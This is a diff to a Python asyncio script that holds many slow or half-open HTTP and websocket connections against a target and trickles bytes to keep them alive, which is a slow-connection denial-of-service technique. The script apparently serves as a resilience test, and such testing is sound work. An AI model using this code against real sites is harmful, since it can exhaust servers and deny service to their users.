@@ -163,6 +163,7 @@ async def everything(there: Target, seconds: float, each: int) -> Counter[str]:
     slow = there.head("POST", "/guest/", Content_Length="60000")
     kinds = {"silent": b"", "half": upgrade[:-2], "body": slow, "socket": upgrade}
     held: list[asyncio.StreamWriter] = []
+    going: list[asyncio.StreamWriter] = []  # those that send on, byte by byte
     found: Counter[str] = Counter()
     some = asyncio.Semaphore(50)
 
@@ -172,6 +173,8 @@ async def everything(there: Target, seconds: float, each: int) -> Counter[str]:
                 # Without TLS for some: a handshake costs the attacker as much as the site.
                 reader, writer = await there.connect(None if kind in {"socket", "body"} else False)
             held.append(writer)
+            if kind != "socket":  # a byte would be an unreadable frame, for which it is closed
+                going.append(writer)
             writer.write(kinds[kind])
             if kind == "socket":
                 status = (await reader.readline()).split(b" ")[1].decode()
@@ -183,7 +186,7 @@ async def everything(there: Target, seconds: float, each: int) -> Counter[str]:
 
     async def go_on() -> None:
         while True:
-            for writer in held:
+            for writer in going:
                 if not writer.transport.is_closing():
                     writer.write(b"x")
             await asyncio.sleep(1)
